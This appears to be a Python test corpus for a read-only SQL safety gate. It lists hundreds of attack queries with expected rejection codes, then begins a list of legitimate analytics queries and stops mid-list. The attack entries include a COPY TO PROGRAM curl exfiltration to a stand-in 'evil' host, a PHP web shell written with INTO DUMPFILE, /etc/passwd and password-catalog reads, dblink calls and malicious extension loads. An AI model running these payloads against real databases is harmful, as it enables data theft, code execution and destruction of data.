"""Corpora for the safety gate tests: attacks (must be rejected with a given code) and legitimate analytics.

ATTACKS: (engine, sql, expected error code). LEGIT: (engine, sql).
"""

from __future__ import annotations

PG, MY, LITE, DUCK = "postgresql", "mysql", "sqlite", "duckdb"

NRO = "NOT_READ_ONLY"
FS = "FORBIDDEN_STATEMENT"
FF = "FORBIDDEN_FUNCTION"
MS = "MULTIPLE_STATEMENTS"
PE = "PARSE_ERROR"
EC = "EXECUTABLE_COMMENT"
SI = "SELECT_INTO"
FA = "FILE_ACCESS"
EQ = "EMPTY_QUERY"
FT = "FORBIDDEN_TABLE"
US = "UNSUPPORTED_SYNTAX"

_ATTACKS_WRITE: list[tuple[str, str, str]] = [
    # plain DML / DDL
    (PG, "DELETE FROM orders", NRO),
    (PG, "dElEtE FrOm orders WHERE 1=1", NRO),
    (PG, "UPDATE orders SET total = 0", NRO),
    (PG, "INSERT INTO orders (id) VALUES (1)", NRO),
    (PG, "INSERT INTO audit SELECT * FROM orders", NRO),
    (PG, "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", NRO),
    (PG, "DROP TABLE orders", NRO),
    (PG, "DROP SCHEMA public CASCADE", NRO),
    (PG, "CREATE TABLE x AS SELECT * FROM orders", NRO),
    (PG, "CREATE INDEX i ON orders (id)", NRO),
    (PG, "CREATE VIEW v AS SELECT 1", NRO),
    (PG, "ALTER TABLE orders ADD COLUMN c INT", NRO),
    (PG, "TRUNCATE orders", NRO),
    (PG, "CREATE EXTENSION dblink", FS),
    (MY, "DELETE FROM orders", NRO),
    (MY, "UPDATE orders SET total = 0 WHERE id = 1", NRO),
    (MY, "INSERT INTO orders VALUES (1)", NRO),
    (MY, "DROP DATABASE shop", NRO),
    (MY, "CREATE TABLE t2 (id INT)", NRO),
    (MY, "ALTER TABLE orders DROP COLUMN total", NRO),
    (MY, "TRUNCATE TABLE orders", NRO),
    (LITE, "DELETE FROM orders", NRO),
    (LITE, "UPDATE orders SET total = 0", NRO),
    (LITE, "INSERT OR REPLACE INTO orders VALUES (1)", NRO),
    (LITE, "DROP TABLE orders", NRO),
    (LITE, "CREATE TABLE x (a)", NRO),
    (LITE, "ALTER TABLE orders RENAME TO o2", NRO),
    (DUCK, "DELETE FROM orders", NRO),
    (DUCK, "UPDATE orders SET total = 0", NRO),
    (DUCK, "INSERT INTO orders VALUES (1)", NRO),
    (DUCK, "CREATE TABLE x AS SELECT 1", NRO),
    (DUCK, "DROP TABLE orders", NRO),
    # DML hidden in CTEs and subqueries (writable CTEs)
    (PG, "WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x", NRO),
    (PG, "WITH x AS (UPDATE orders SET total = 0 RETURNING id) SELECT id FROM x", NRO),
    (PG, "WITH x AS (INSERT INTO orders (id) VALUES (1) RETURNING id) SELECT * FROM x", NRO),
    (PG, "WITH a AS (SELECT 1), b AS (DELETE FROM orders RETURNING id) SELECT * FROM a", NRO),
    (PG, "SELECT * FROM t WHERE a IN (WITH d AS (DELETE FROM t RETURNING a) SELECT a FROM d)", NRO),
    (PG, "SELECT 1 UNION ALL SELECT * FROM (WITH d AS (DELETE FROM t RETURNING 1) SELECT * FROM d) s", NRO),
    (DUCK, "WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x", NRO),
    (LITE, "WITH x AS (SELECT 1) DELETE FROM orders", NRO),
    (MY, "WITH x AS (SELECT 1) UPDATE orders SET total = 1", NRO),
    # locking reads
    (PG, "SELECT * FROM orders FOR UPDATE", NRO),
    (PG, "SELECT * FROM orders FOR SHARE", NRO),
    (PG, "SELECT * FROM orders FOR NO KEY UPDATE SKIP LOCKED", NRO),
    (PG, "SELECT id FROM (SELECT id FROM orders FOR UPDATE) s", NRO),
    (MY, "SELECT * FROM orders FOR UPDATE NOWAIT", NRO),
    (MY, "SELECT * FROM orders LOCK IN SHARE MODE", NRO),
    # SELECT ... INTO
    (PG, "SELECT * INTO stolen FROM orders", SI),
    (PG, "SELECT id INTO TEMP t2 FROM orders", SI),
    (MY, "SELECT * FROM orders INTO OUTFILE '/var/lib/mysql-files/x.csv'", SI),
    (MY, "SELECT '<?php system($_GET[1]); ?>' INTO DUMPFILE '/var/www/x.php'", SI),
    (MY, "SELECT id INTO @v FROM orders LIMIT 1", SI),
]

_ATTACKS_STATEMENTS: list[tuple[str, str, str]] = [
    # several statements, with comments and odd separators
    (PG, "SELECT 1; DROP TABLE orders", MS),
    (PG, "SELECT 1 /* x */; /* y */ DROP TABLE orders", MS),
    (PG, "SELECT 1;\n-- harmless\nDELETE FROM orders", MS),
    (PG, "SELECT 1; SELECT 2", MS),
    (PG, "SELECT 'a\\'; DROP TABLE orders; --'", MS),
    (MY, "SELECT 1; SELECT SLEEP(5)", MS),
    (MY, "SELECT 1;\tDROP TABLE orders", MS),
    (LITE, "SELECT 1;;DELETE FROM orders", MS),
    (LITE, "SELECT 1; ATTACH DATABASE '/tmp/x.db' AS x", MS),
    (DUCK, "SELECT 1; INSTALL httpfs", MS),
    # transaction control
    (PG, "BEGIN", FS),
    (PG, "COMMIT", FS),
    (PG, "ROLLBACK", FS),
    (PG, "START TRANSACTION READ WRITE", PE),
    (PG, "SAVEPOINT a", FS),
    (PG, "ROLLBACK TO SAVEPOINT a", FS),
    (PG, "ABORT", FS),
    (MY, "START TRANSACTION", FS),
    (MY, "COMMIT", FS),
    (LITE, "BEGIN IMMEDIATE", FS),
    (DUCK, "BEGIN TRANSACTION", FS),
    # session settings and roles
    (PG, "SET search_path = evil, public", FS),
    (PG, "SET ROLE postgres", FS),
    (PG, "SET SESSION AUTHORIZATION postgres", FS),
    (PG, "SET TRANSACTION READ WRITE", FS),
    (PG, "RESET ROLE", FS),
    (PG, "RESET ALL", FS),
    (PG, "set statement_timeout = 0", FS),
    (MY, "SET GLOBAL read_only = 0", FS),
    (MY, "SET SESSION sql_mode = ''", FS),
    (MY, "SET @x = 1", FS),
    (DUCK, "SET enable_external_access = true", FS),
    (DUCK, "RESET threads", FS),
    # COPY
    (PG, "COPY orders TO PROGRAM 'curl http://evil/ -d @-'", FS),
    (PG, "COPY orders FROM PROGRAM 'id'", FS),
    (PG, "COPY (SELECT * FROM orders) TO '/tmp/out.csv'", FS),
    (PG, "COPY orders FROM '/etc/passwd'", FS),
    (DUCK, "COPY orders TO 'out.csv'", FS),
    (DUCK, "COPY (SELECT * FROM orders) TO 's3://bucket/x.parquet' (FORMAT parquet)", FS),
    # procedures, prepared statements, anonymous blocks
    (PG, "CALL do_something()", FS),
    (PG, "EXECUTE stmt", FS),
    (PG, "PREPARE p AS DELETE FROM orders", FS),
    (PG, "DO $$ BEGIN DELETE FROM orders; END $$", FS),
    (MY, "CALL cleanup()", FS),
    (MY, "PREPARE s FROM 'DROP TABLE orders'", FS),
    (MY, "EXECUTE s", FS),
    (DUCK, "CALL duckdb_secrets()", FS),
    # locks
    (PG, "LOCK TABLE orders IN ACCESS EXCLUSIVE MODE", FS),
    (MY, "LOCK TABLES orders WRITE", FS),
    (MY, "UNLOCK TABLES", FS),
    # PRAGMA, ATTACH/DETACH, LOAD/INSTALL
    (LITE, "PRAGMA writable_schema = ON", FS),
    (LITE, "PRAGMA journal_mode = DELETE", FS),
    (LITE, "pragma table_info(orders)", FS),
    (DUCK, "PRAGMA enable_profiling", FS),
    (LITE, "ATTACH DATABASE '/tmp/evil.db' AS evil", FS),
    (LITE, "DETACH DATABASE evil", FS),
    (DUCK, "ATTACH 'other.duckdb' AS other", FS),
    (DUCK, "ATTACH 'dbname=prod' AS p (TYPE postgres)", FS),
    (DUCK, "DETACH other", FS),
    (DUCK, "INSTALL httpfs", FS),
    (DUCK, "LOAD httpfs", FS),
    (DUCK, "FORCE INSTALL spatial FROM 'http://evil/'", FS),
    (PG, "LOAD 'plpython3u'", FS),
    # introspection / admin statements
    (PG, "EXPLAIN ANALYZE DELETE FROM orders", FS),
    (PG, "EXPLAIN SELECT 1", FS),
    (MY, "EXPLAIN SELECT 1", FS),
    (MY, "DESCRIBE orders", FS),
    (MY, "SHOW TABLES", FS),
    (MY, "SHOW GRANTS", FS),
    (LITE, "EXPLAIN QUERY PLAN SELECT 1", FS),
    (DUCK, "DESCRIBE orders", FS),
    (DUCK, "SUMMARIZE orders", FS),
    (DUCK, "SHOW TABLES", FS),
    (PG, "GRANT ALL ON orders TO PUBLIC", NRO),
    (PG, "VACUUM FULL", FS),
    (PG, "ANALYZE orders", FS),
    (PG, "LISTEN channel", FS),
    (PG, "NOTIFY channel", FS),
    (PG, "CHECKPOINT", FS),
    (PG, "REFRESH MATERIALIZED VIEW mv", FS),
    (MY, "KILL 1", FS),
    (MY, "FLUSH PRIVILEGES", FS),
    (MY, "USE mysql", FS),
    (MY, "REPLACE INTO orders VALUES (1)", FS),
    (LITE, "VACUUM", FS),
    (LITE, "REINDEX", FS),
    (DUCK, "CHECKPOINT", FS),
    (DUCK, "USE other", FS),
]

_ATTACKS_TEXT: list[tuple[str, str, str]] = [
    # MySQL executable comments and optimizer hints (sqlglot would drop them as comments; MySQL runs them)
    (MY, "SELECT 1 /*! ; DROP TABLE orders */", EC),
    (MY, "/*!50000 DROP TABLE orders */", EC),
    (MY, "SELECT /*!50000 SLEEP(5), */ 1", EC),
    (MY, "SELECT 1 /* fine */ /*!UNION SELECT load_file('/etc/passwd')*/", EC),
    (MY, "SELECT 1 -- comment\n/*! , SLEEP(5) */", EC),
    (MY, "SELECT 1 --/*! , SLEEP(5) */", EC),
    (MY, "SELECT '/*!' AS s /*!, SLEEP(5) */", EC),
    (MY, "SELECT 'it''s' /*!32302 , SLEEP(5) */", EC),
    # with NO_BACKSLASH_ESCAPES the string ends at \' and the comment is live: rejected under either reading
    (MY, "SELECT 'it\\'s /*! , SLEEP(5) */ x' AS s", EC),
    (MY, "SELECT /*+ MAX_EXECUTION_TIME(100000000) */ id FROM orders", EC),
    (MY, "SELECT /* a /*! b */ 1", EC),
    (PG, "SELECT 1 /* a /* nested */ /*! c */ */", EC),
    (PG, "SELECT /*+ SeqScan(orders) */ * FROM orders", EC),
    (LITE, "SELECT 1 /*!DROP*/", EC),
    (DUCK, "SELECT /*+ hint */ 1", EC),
    # comment tricks, unicode look-alikes, case games
    (PG, "SEL/**/ECT 1", PE),
    (MY, "DEL/**/ETE FROM orders", PE),
    (PG, "D\u0415LETE FROM orders", PE),  # Cyrillic capital IE
    (MY, "SELECT 1\uff1b DROP TABLE orders", PE),  # fullwidth semicolon
    (PG, "\uff33\uff25\uff2c\uff25\uff23\uff34 1", PE),  # fullwidth SELECT
    (LITE, "SELECT 1 \u037e DROP TABLE orders", PE),  # Greek question mark
    (PG, "SELECT 1 FROM orders WHERE (", PE),
    (PG, 'SELECT U&"pg_sl\\0065ep"(5)', PE),  # Unicode-escape identifier spelling pg_sleep
    (DUCK, "SELECT U&'\\0041' AS a", PE),
    # with standard_conforming_strings=off PostgreSQL would end the first literal later and run pg_sleep
    (PG, "SELECT 'x\\', ' , pg_sleep(5) -- '", PE),
    (PG, "SELECT 1 /* unterminated", PE),
    (DUCK, "SELECT * FROM orders WHERE id = 'unterminated", PE),
    (PG, "", EQ),
    (MY, "   \n\t ", EQ),
    (LITE, "-- just a comment", EQ),
    (DUCK, "/* only a comment */", EQ),
    (PG, ";", EQ),
]

# Deny-listed functions: (engine, call) used in several positions and spellings below.
_DENIED_CALLS: list[tuple[str, str]] = [
    (PG, "pg_sleep(10)"),
    (PG, "pg_sleep_for('5 minutes')"),
    (PG, "pg_read_file('/etc/passwd')"),
    (PG, "pg_read_binary_file('/etc/passwd')"),
    (PG, "pg_ls_dir('.')"),
    (PG, "pg_stat_file('postgresql.conf')"),
    (PG, "lo_import('/etc/passwd')"),
    (PG, "lo_export(1, '/tmp/x')"),
    (PG, "dblink('host=evil', 'SELECT 1')"),
    (PG, "dblink_exec('dbname=x', 'DROP TABLE orders')"),
    (PG, "set_config('role', 'postgres', false)"),
    (PG, "pg_terminate_backend(1)"),
    (PG, "pg_cancel_backend(1)"),
    (PG, "pg_reload_conf()"),
    (PG, "pg_rotate_logfile()"),
    (PG, "query_to_xml('DELETE FROM orders RETURNING 1', true, true, '')"),
    (PG, "pg_advisory_lock(1)"),
    (PG, "setval('orders_id_seq', 1)"),
    (PG, "ts_stat('DELETE FROM orders RETURNING NULL::tsvector')"),
    (PG, "crosstab('SELECT 1')"),
    (MY, "SLEEP(5)"),
    (MY, "BENCHMARK(100000000, MD5('a'))"),
    (MY, "LOAD_FILE('/etc/passwd')"),
    (MY, "GET_LOCK('a', 10)"),
    (MY, "RELEASE_LOCK('a')"),
    (MY, "MASTER_POS_WAIT('log', 4)"),
    (MY, "sys_exec('id')"),
    (MY, "sys_eval('id')"),
    (LITE, "load_extension('/tmp/evil.so')"),
    (LITE, "readfile('/etc/passwd')"),
    (LITE, "writefile('/tmp/x', 'y')"),
    (LITE, "fts3_tokenizer('simple')"),
    (LITE, "edit('x')"),
    (DUCK, "read_csv('/etc/passwd')"),
    (DUCK, "read_csv_auto('data.csv')"),
    (DUCK, "read_parquet('s3://bucket/x.parquet')"),
    (DUCK, "read_json_auto('x.json')"),
    (DUCK, "read_text('/etc/passwd')"),
    (DUCK, "read_blob('/etc/passwd')"),
    (DUCK, "getenv('HOME')"),
    (DUCK, "query('DELETE FROM orders')"),
    (DUCK, "current_setting('s3_secret_access_key')"),
]

_QUOTE = {PG: '"', LITE: '"', DUCK: '"', MY: "`"}
_QUALIFIER = {PG: "pg_catalog", MY: "mysql", LITE: "main", DUCK: "main"}


def _spellings(engine: str, call: str) -> list[str]:
    name, rest = call.split("(", 1)
    q = _QUOTE[engine]
    forms = [call, name.upper() + "(" + rest, name.lower() + "(" + rest, f"{q}{name.lower()}{q}({rest}"]
    if engine in (PG, MY, DUCK):
        forms.append(f"{_QUALIFIER[engine]}.{name.lower()}({rest}")
    return forms


def _positions(call: str) -> list[str]:
    return [
        f"SELECT {call}",
        f"SELECT id FROM orders WHERE id = 1 OR {call} IS NULL",
        f"SELECT id FROM orders ORDER BY {call}",
        f"SELECT id, count(*) FROM orders GROUP BY id HAVING count(*) > 0 AND {call} IS NOT NULL",
        f"WITH c AS (SELECT {call} AS v) SELECT v FROM c",
        f"SELECT (SELECT {call}) AS v",
        f"SELECT CASE WHEN id > 0 THEN {call} END FROM orders",
        f"SELECT id FROM orders UNION ALL SELECT {call}",
        f"SELECT * FROM (SELECT lower(cast({call} AS text)) AS v) s",
    ]


def _function_attacks() -> list[tuple[str, str, str]]:
    out: list[tuple[str, str, str]] = []
    for i, (engine, call) in enumerate(_DENIED_CALLS):
        for form in _spellings(engine, call):
            out.append((engine, f"SELECT {form}", FF))
        out.append((engine, _positions(call)[i % 9], FF))
        out.append((engine, _positions(call)[(i + 4) % 9], FF))
    out += [
        (PG, "VALUES (1), (pg_sleep(5))", FF),
        (DUCK, "VALUES (read_text('/etc/passwd'))", FF),
        (LITE, "VALUES (readfile('/etc/passwd'))", FF),
        (PG, "SELECT * FROM pg_sleep(5)", FF),
        (PG, "SELECT * FROM pg_ls_dir('/')", FF),
        (LITE, "SELECT * FROM zipfile('/tmp/x.zip')", FF),
        (LITE, "SELECT name FROM fsdir('/')", FF),
        (DUCK, "SELECT * FROM read_csv('/etc/passwd')", FF),
        (DUCK, "SELECT * FROM parquet_scan('x.parquet')", FF),
        (DUCK, "SELECT * FROM glob('/*')", FF),
        (DUCK, "SELECT * FROM sniff_csv('x.csv')", FF),
        (DUCK, "SELECT * FROM query_table('orders')", FF),
        (DUCK, "SELECT * FROM sqlite_scan('x.db', 'users')", FF),
        (DUCK, "SELECT * FROM postgres_scan('dbname=prod', 'public', 'users')", FF),
        (DUCK, "SELECT * FROM duckdb_secrets()", FF),
        (DUCK, "FROM read_json('x.json')", FF),
        # file reads through table references (DuckDB replacement scans)
        (DUCK, "SELECT * FROM 'data.csv'", FA),
        (DUCK, "SELECT * FROM '/etc/passwd'", FA),
        (DUCK, "SELECT * FROM 's3://bucket/x.parquet'", FA),
        (DUCK, 'SELECT * FROM "data.parquet"', FA),
        (DUCK, "SELECT * FROM 'https://evil.example/x.csv'", FA),
        (DUCK, "FROM '~/secrets/*.json'", FA),
        (DUCK, "SELECT o.id FROM orders o JOIN 'users.csv' u ON u.id = o.id", FA),
    ]
    return out


# Security review round 2: session state, process state, sensitive catalogs, syntax the gate cannot trace.
_ATTACKS_REVIEW: list[tuple[str, str, str]] = [
    # table alias column lists (SQLite renders them away, changing which column a name means)
    (PG, "SELECT c.a FROM customers c(a, b)", US),
    (PG, "SELECT x.id FROM orders AS x(id, status)", US),
    (LITE, "SELECT c.a FROM customers c(a, b, d, e)", US),
    (DUCK, "SELECT c.a FROM customers c(a, b)", US),
    (PG, "WITH w AS (SELECT id, email FROM customers) SELECT z.b FROM w AS z(a, b)", US),
    # DuckDB column selection by position / pattern
    (DUCK, "SELECT #3 FROM customers", US),
    (DUCK, "SELECT #1, #2 FROM customers ORDER BY #1", US),
    (DUCK, "SELECT COLUMNS('e.*') FROM customers", US),
    (DUCK, "SELECT COLUMNS(c -> c LIKE 'e%') FROM customers", US),
    (DUCK, "SELECT max(COLUMNS(*)) FROM customers", US),
    # MySQL user / system variables: session state leaks across pooled connections
    (MY, "SELECT @e := email FROM customers", FS),
    (MY, "SELECT @e", FS),
    (MY, "SET @e = (SELECT email FROM customers LIMIT 1)", FS),
    (MY, "SELECT id FROM orders WHERE customer_id = @uid", FS),
    (MY, "SELECT (@n := @n + 1) AS rn, id FROM orders", FS),
    (MY, "SELECT @@hostname", FS),
    # sequences, locks, replication waits, transaction ids
    (MY, "SELECT LAST_INSERT_ID(5)", FF),
    (MY, "SELECT last_insert_id(id) FROM orders", FF),
    (MY, "SELECT NEXTVAL(s)", FF),
    (MY, "SELECT SETVAL(s, 1)", FF),
    (MY, "SELECT LASTVAL(s)", FF),
    (MY, "SELECT MASTER_GTID_WAIT('0-1-100')", FF),
    (MY, "SELECT IS_FREE_LOCK('a')", FF),
    (MY, "SELECT RELEASE_ALL_LOCKS()", FF),
    (PG, "SELECT nextval('orders_id_seq')", FF),
    (PG, "SELECT currval('orders_id_seq')", FF),
    (PG, "SELECT lastval()", FF),
    (PG, "SELECT pg_advisory_xact_lock(1)", FF),
    (PG, "SELECT pg_try_advisory_lock(1)", FF),
    (PG, "SELECT pg_notify('ch', 'x')", FF),
    (PG, "SELECT txid_current()", FF),
    (PG, "SELECT pg_current_xact_id()", FF),
    # DuckDB: process state, files, secrets, extensions; table functions are allow-listed
    (DUCK, "SELECT enable_logging()", FF),
    (DUCK, "SELECT disable_logging()", FF),
    (DUCK, "SELECT truncate_duckdb_logs()", FF),
    (DUCK, "SELECT enable_profiling()", FF),
    (DUCK, "SELECT disable_profiling()", FF),
    (DUCK, "SELECT create_external_resource('x')", FF),
    (DUCK, "SELECT register_external_resource('x')", FF),
    (DUCK, "SELECT nextval('seq')", FF),
    (DUCK, "SELECT currval('seq')", FF),
    (DUCK, "SELECT setseed(0.5)", FF),
    (DUCK, "SELECT getvariable('x')", FF),
    (DUCK, "SELECT * FROM checkpoint()", FF),
    (DUCK, "SELECT * FROM force_checkpoint()", FF),
    (DUCK, "SELECT * FROM pragma_table_info('orders')", FF),
    (DUCK, "SELECT * FROM pragma_database_size()", FF),
    (DUCK, "SELECT which_secret('s3://bucket/x', 's3')", FF),
    (DUCK, "SELECT * FROM duckdb_extensions()", FF),
    (DUCK, "SELECT * FROM duckdb_settings()", FF),
    (DUCK, "SELECT * FROM json_each('[1, 2]')", FF),
    (DUCK, "SELECT * FROM test_all_types()", FF),
    (DUCK, "SELECT o.id FROM orders o JOIN pragma_storage_info('orders') p ON true", FF),
    # sensitive catalogs
    (PG, "SELECT rolname, rolpassword FROM pg_authid", FT),
    (PG, "SELECT * FROM pg_catalog.pg_authid", FT),
    (PG, "SELECT usename, passwd FROM pg_shadow", FT),
    (PG, "SELECT * FROM pg_user_mappings", FT),
    (PG, "SELECT * FROM pg_file_settings", FT),
    (PG, "SELECT * FROM pg_hba_file_rules", FT),
    (PG, "SELECT * FROM pg_ident_file_mappings", FT),
    (PG, "SELECT query FROM pg_stat_activity", FT),
    (PG, "SELECT name, setting FROM pg_settings", FT),
    (PG, "SELECT * FROM pg_config", FT),
    (PG, "SELECT most_common_vals FROM pg_stats WHERE tablename = 'customers'", FT),
    (PG, "SELECT id FROM orders WHERE EXISTS (SELECT 1 FROM pg_stat_activity)", FT),
    (PG, "SELECT current_setting('data_directory')", FF),
    (PG, "SELECT current_setting('app.jwt_secret', true)", FF),
    (PG, "SELECT pg_current_logfile()", FF),
    (PG, "SELECT inet_server_addr()", FF),
    (MY, "SELECT user, authentication_string FROM mysql.user", FT),
    (MY, "SELECT * FROM `mysql`.`user`", FT),
    (MY, "SELECT * FROM performance_schema.threads", FT),
    (MY, "SELECT * FROM sys.session", FT),
    (MY, "SELECT info FROM information_schema.PROCESSLIST", FT),
    (MY, "SELECT * FROM information_schema.column_statistics", FT),
    (LITE, "SELECT * FROM sqlite_dbpage", FT),
    (LITE, "SELECT * FROM sqlite_stat1", FT),
    (LITE, "SELECT sample FROM sqlite_stat4", FT),
]

ATTACKS: list[tuple[str, str, str]] = list(
    dict.fromkeys(_ATTACKS_WRITE + _ATTACKS_STATEMENTS + _ATTACKS_TEXT + _function_attacks() + _ATTACKS_REVIEW)
)


# --- legitimate analytics --------------------------------------------------------------------------------------

# A shop schema every LEGIT query is written against (used to check that schema-aware checks raise no
# false UNKNOWN_TABLE / UNKNOWN_COLUMN errors).
SHOP_SCHEMA: dict[str, tuple[str, ...]] = {
    "customers": ("id", "email", "first_name", "last_name", "country", "created_at", "deleted_at"),
    "orders": ("id", "customer_id", "status", "total", "created_at", "update_count", "shipped_at"),
    "order_items": ("order_id", "product_id", "quantity", "unit_price"),
    "products": ("id", "name", "category", "price"),
    "employees": ("id", "manager_id", "name", "salary", "department"),
    "events": ("id", "user_id", "kind", "occurred_at"),
    "drop table": ("deleted_at", "update_count", "insert_id", "set_name"),
    "delete_log": ("id", "deleted_by", "note"),
}
SHOP_PII = {("customers", "email"), ("customers", "first_name")}

# Portable queries: valid in all four engines.
_PORTABLE: list[str] = [
    "SELECT 1",
    "SELECT id, total FROM orders",
    "SELECT id, total FROM orders WHERE total > 100 ORDER BY total DESC",
    "SELECT id, total FROM orders LIMIT 10",
    "SELECT id, total FROM orders ORDER BY id LIMIT 10 OFFSET 20",
    "SELECT count(*) FROM orders",
    "SELECT status, count(*) AS n, sum(total) AS revenue FROM orders GROUP BY status",
    "SELECT status, avg(total) FROM orders GROUP BY status HAVING avg(total) > 50",
    "SELECT DISTINCT country FROM customers",
    "SELECT c.id, c.country, o.total FROM customers c JOIN orders o ON o.customer_id = c.id",
    "SELECT c.id, o.id FROM customers c LEFT JOIN orders o ON o.customer_id = c.id WHERE o.id IS NULL",
    "SELECT o.id, p.name, i.quantity * i.unit_price AS line_total FROM orders o "
    "JOIN order_items i ON i.order_id = o.id JOIN products p ON p.id = i.product_id",
    "SELECT id FROM customers WHERE id IN (SELECT customer_id FROM orders WHERE total > 500)",
    "SELECT id FROM customers c WHERE EXISTS (SELECT 1 FROM orders o WHERE o.customer_id = c.id)",
    "SELECT id FROM customers c WHERE NOT EXISTS (SELECT 1 FROM orders o WHERE o.customer_id = c.id)",
    "SELECT id, (SELECT count(*) FROM orders o WHERE o.customer_id = c.id) AS order_count FROM customers c",
    "SELECT s.status, s.n FROM (SELECT status, count(*) AS n FROM orders GROUP BY status) s WHERE s.n > 10",
    "WITH big AS (SELECT customer_id, sum(total) AS spent FROM orders GROUP BY customer_id) "
    "SELECT customer_id, spent FROM big WHERE spent > 1000 ORDER BY spent DESC",
    "WITH a AS (SELECT id FROM customers), b AS (SELECT customer_id FROM orders) "
    "SELECT a.id FROM a JOIN b ON b.customer_id = a.id",
    "WITH RECURSIVE chain(id, manager_id, depth) AS (SELECT id, manager_id, 0 FROM employees WHERE manager_id IS NULL "
    "UNION ALL SELECT e.id, e.manager_id, chain.depth + 1 FROM employees e JOIN chain ON e.manager_id = chain.id) "
    "SELECT id, depth FROM chain",
    "SELECT id, total, row_number() OVER (PARTITION BY customer_id ORDER BY created_at) AS rn FROM orders",
    "SELECT id, total, sum(total) OVER (ORDER BY created_at ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) AS running "
    "FROM orders",
    "SELECT id, rank() OVER (ORDER BY total DESC) AS r, dense_rank() OVER (ORDER BY total DESC) AS dr FROM orders",
    "SELECT id, lag(total) OVER (ORDER BY created_at) AS prev, lead(total) OVER (ORDER BY created_at) AS nxt FROM orders",
    "SELECT id, ntile(4) OVER (ORDER BY total) AS quartile FROM orders",
    "SELECT department, name, salary FROM (SELECT department, name, salary, "
    "row_number() OVER (PARTITION BY department ORDER BY salary DESC) AS rn FROM employees) t WHERE rn <= 3",
    "SELECT id FROM customers UNION SELECT customer_id FROM orders",
    "SELECT id FROM customers UNION ALL SELECT customer_id FROM orders ORDER BY 1 LIMIT 5",
    "SELECT id FROM customers INTERSECT SELECT customer_id FROM orders",
    "SELECT id FROM customers EXCEPT SELECT customer_id FROM orders",
    "SELECT id, CASE WHEN total > 100 THEN 'big' WHEN total > 10 THEN 'medium' ELSE 'small' END AS bucket FROM orders",
    "SELECT sum(CASE WHEN status = 'paid' THEN total ELSE 0 END) AS paid FROM orders",
    "SELECT coalesce(shipped_at, created_at) AS t, nullif(total, 0) AS nz FROM orders",
    "SELECT id FROM orders WHERE status IN ('paid', 'shipped') AND total BETWEEN 10 AND 20",
    "SELECT id FROM customers WHERE last_name LIKE 'Mc%' AND country <> 'US'",
    "SELECT upper(last_name), lower(country), length(last_name) FROM customers",
    "SELECT id, CAST(total AS INTEGER) AS t FROM orders",
    "SELECT round(avg(total), 2) AS avg_total, min(total), max(total) FROM orders",
    'SELECT deleted_at, update_count, insert_id, set_name FROM "drop table"',
    "SELECT id, deleted_by, note FROM delete_log WHERE note = '; DROP TABLE orders; --'",
    "SELECT id FROM delete_log WHERE note = 'DELETE FROM orders' OR note LIKE '%UPDATE%'",
    "SELECT 'a; b' AS s, '--not a comment' AS c2, '/* not a comment */' AS c3",
    "SELECT id, update_count FROM orders WHERE update_count > 0",
    "SELECT count(*) AS deleted FROM customers WHERE deleted_at IS NOT NULL",
    'SELECT id AS "select", total AS "from" FROM orders',
    "SELECT o.status, count(DISTINCT o.customer_id) AS buyers FROM orders o GROUP BY o.status ORDER BY buyers DESC",
    "SELECT p.category, sum(i.quantity) AS units FROM order_items i JOIN products p ON p.id = i.product_id "
    "GROUP BY p.category HAVING sum(i.quantity) > 100 ORDER BY units DESC",
    "SELECT e.name, m.name AS manager FROM employees e LEFT JOIN employees m ON m.id = e.manager_id",
    "SELECT kind, count(*) FROM events GROUP BY kind ORDER BY count(*) DESC LIMIT 20",
    "SELECT max(occurred_at) AS last_seen, user_id FROM events GROUP BY user_id",
    "(SELECT id FROM orders ORDER BY total DESC LIMIT 3)",
    "SELECT x.id FROM (SELECT id FROM customers UNION SELECT id FROM employees) x",
    "SELECT id FROM orders WHERE total > (SELECT avg(total) FROM orders)",
    "SELECT c.country, count(*) FROM customers c, orders o WHERE o.customer_id = c.id GROUP BY c.country",
]

_ENGINE_SPECIFIC: list[tuple[str, str]] = [
    # PostgreSQL
    (PG, "SELECT date_trunc('month', created_at) AS month, sum(total) FROM orders GROUP BY 1 ORDER BY 1"),
    (PG, "SELECT id FROM orders WHERE created_at > now() - interval '7 days'"),
    (PG, "SELECT extract(year FROM created_at) AS y, count(*) FROM orders GROUP BY 1"),
    (PG, "SELECT id, total::numeric(10, 2) FROM orders"),
    (PG, "SELECT string_agg(last_name, ', ' ORDER BY last_name) FROM customers"),
    (PG, "SELECT array_agg(id) FROM orders WHERE status = 'paid'"),
    (PG, "SELECT DISTINCT ON (customer_id) customer_id, id, created_at FROM orders ORDER BY customer_id, created_at DESC"),
    (PG, "SELECT id FROM customers WHERE last_name ILIKE 'mc%'"),
    (PG, "SELECT count(*) FILTER (WHERE status = 'paid') AS paid, count(*) AS all_orders FROM orders"),
    (PG, "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY total) AS median FROM orders"),
    (PG, "SELECT g AS day FROM generate_series(1, 7) AS g"),
    (PG, "SELECT to_char(created_at, 'YYYY-MM') AS ym FROM orders"),
    (PG, "SELECT id, total FROM orders FETCH FIRST 5 ROWS ONLY"),
    (PG, "SELECT $$; DROP TABLE orders$$ AS s"),
    (PG, "SELECT E'a\\'b' AS s"),
    (PG, "SELECT id FROM public.orders"),
    (PG, 'SELECT "Id" FROM (SELECT id AS "Id" FROM orders) s'),
    (PG, "SELECT current_date, current_timestamp, current_setting('TimeZone')"),
    (PG, "SELECT o.id FROM orders o WHERE o.total > ALL (SELECT total FROM orders WHERE status = 'refunded')"),
    (PG, "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'"),
    (PG, "SELECT relname, relkind FROM pg_catalog.pg_class WHERE relnamespace = 'public'::regnamespace"),
    (PG, "SELECT column_name FROM information_schema.columns WHERE table_name = 'orders'"),
    (PG, "SELECT rolname FROM pg_roles"),
    (PG, "SELECT current_setting('DateStyle') AS ds"),
    (PG, "TABLE orders"),
    (PG, "VALUES (1, 'a'), (2, 'b')"),
    (PG, "SELECT id FROM orders ORDER BY total DESC NULLS LAST LIMIT 10"),
    (PG, "SELECT age(now(), created_at) FROM customers"),
    (PG, "SELECT id FROM orders WHERE status = ANY (ARRAY['paid', 'shipped'])"),
    (PG, "SELECT '/*!50000 DROP TABLE t */' AS not_a_comment"),
    (PG, "SELECT jsonb_build_object('id', id, 'total', total) FROM orders"),
    # MySQL
